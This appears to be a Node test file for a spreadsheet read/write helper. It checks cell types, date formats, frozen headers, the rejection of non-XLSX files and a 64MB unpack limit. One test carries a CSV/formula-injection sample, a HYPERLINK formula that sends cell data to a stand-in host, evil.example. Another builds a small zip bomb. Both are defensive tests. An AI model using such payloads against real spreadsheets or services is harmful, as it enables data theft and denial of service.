import { test } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import yazl from 'yazl';
import { readFirstSheet, SpreadsheetError, writeWorkbook } from './spreadsheets.ts';

async function open(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  return book.worksheets[0]!;
}

function zipOf(files: Record<string, Buffer>): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const [name, data] of Object.entries(files)) zip.addBuffer(data, name);
  zip.end();
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    zip.outputStream.on('data', (c: Buffer) => chunks.push(c)).on('end', () => resolve(Buffer.concat(chunks))).on('error', reject);
  });
}

test('a written workbook opens in exceljs with its headers, numbers as numbers, dates as dates, a bold frozen header row and widths', async () => {
  const bytes = await writeWorkbook([{
    name: 'Projects: 2026/27',
    columns: [{ header: 'Project', width: 40 }, { header: 'Spent (£)', kind: 'number' }, { header: 'Due', kind: 'date' }],
    rows: [['Street pastors', '1180.40', '2026-05-31'], ['No figures yet', '', null]],
  }]);
  const sheet = await open(bytes);
  assert.equal(sheet.name, 'Projects  2026 27');
  assert.deepEqual([1, 2, 3].map((c) => sheet.getRow(1).getCell(c).value), ['Project', 'Spent (£)', 'Due']);
  assert.equal(sheet.getRow(1).getCell(1).font?.bold, true);
  assert.equal(sheet.getCell('B2').value, 1180.4);
  assert.equal(sheet.getCell('B2').type, ExcelJS.ValueType.Number);
  assert.deepEqual(sheet.getCell('C2').value, new Date('2026-05-31T00:00:00Z'));
  assert.equal(sheet.getCell('C2').numFmt, 'dd/mm/yyyy');
  assert.equal(sheet.getCell('B3').value, null);
  assert.equal(sheet.getColumn(1).width, 40);
  assert.equal(sheet.views[0]?.state, 'frozen');
  assert.equal((sheet.views[0] as ExcelJS.WorksheetViewFrozen).ySplit, 1);
  // Read back through the helper, the rows are the text a person sees.
  assert.deepEqual(await readFirstSheet(bytes), [['Project', 'Spent (£)', 'Due'], ['Street pastors', '1180.4', '2026-05-31'], ['No figures yet']]);
});

test('text a spreadsheet would run as a formula (= + - @) is written as text, and reads back unchanged', async () => {
  const risky = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)'];
  const bytes = await writeWorkbook([{ name: 'Sheet', columns: [{ header: 'Note' }], rows: risky.map((r) => [r]) }]);
  const sheet = await open(bytes);
  risky.forEach((r, i) => {
    const cell = sheet.getCell(`A${i + 2}`);
    assert.equal(cell.type, ExcelJS.ValueType.String, r);
    assert.equal(cell.formula, undefined, r);
    assert.equal(cell.value, r);
  });
  assert.deepEqual((await readFirstSheet(bytes)).slice(1).map((r) => r[0]), risky);
});

test('a workbook made elsewhere reads as plain values: a formula as its result, a date as 2026-05-31, rich text and links as their words; row numbers kept', async () => {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('First');
  book.addWorksheet('Second').addRow(['not read']);
  sheet.addRow(['Id', 'Total', 'Due', 'Note', 'Link', 'Done']);
  sheet.getCell('A3').value = 'x-1';
  sheet.getCell('B3').value = { formula: 'SUM(1,2)', result: 3 };
  sheet.getCell('C3').value = new Date(Date.UTC(2026, 4, 31));
  sheet.getCell('D3').value = { richText: [{ text: 'Slower ', font: { bold: true } }, { text: 'than hoped' }] };
  sheet.getCell('E3').value = { text: 'the page', hyperlink: 'https://example.org/' };
  sheet.getCell('F3').value = true;
  sheet.getCell('A5').value = '';
  const rows = await readFirstSheet(Buffer.from(await book.xlsx.writeBuffer()));
  // Row 2 is blank and kept as one, so row 3 is still at index 2; the blank rows after the last are dropped.
  assert.deepEqual(rows, [['Id', 'Total', 'Due', 'Note', 'Link', 'Done'], [], ['x-1', '3', '2026-05-31', 'Slower than hoped', 'the page', 'TRUE']]);
});

test('a file that is not a workbook is refused with a message: text, a damaged zip, a zip without a workbook', async () => {
  for (const bytes of [Buffer.from('Id,Status\r\nx,On track\r\n'), Buffer.from('PK\u0003\u0004 not really a zip'), await zipOf({ 'word/document.xml': Buffer.from('<w:document/>') })]) {
    await assert.rejects(readFirstSheet(bytes), (e: unknown) => e instanceof SpreadsheetError && /not an Excel workbook \(XLSX\)/.test(e.message));
  }
});

test('a small workbook that unpacks to more than 64MB is refused before it is read', async () => {
  const bomb = await zipOf({ 'xl/workbook.xml': Buffer.from('<workbook/>'), 'xl/worksheets/sheet1.xml': Buffer.alloc(65 * 1024 * 1024, 0x20) });
  assert.ok(bomb.length < 1024 * 1024, `${bomb.length} bytes`);
  await assert.rejects(readFirstSheet(bomb), /too large once unpacked/);
});
